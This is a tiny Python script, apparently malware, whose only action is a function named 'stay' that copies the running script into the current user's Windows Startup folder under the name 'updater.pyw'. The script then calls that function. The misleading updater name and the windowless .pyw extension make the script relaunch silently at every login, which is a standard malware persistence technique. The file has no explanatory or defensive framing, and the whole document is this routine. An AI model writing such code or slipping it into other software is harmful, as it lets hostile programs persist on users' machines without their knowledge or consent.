import os
import shutil
import sys


def stay():
    folder = os.path.join(
        os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup"
    )
    shutil.copy(sys.argv[0], os.path.join(folder, "updater.pyw"))


stay()
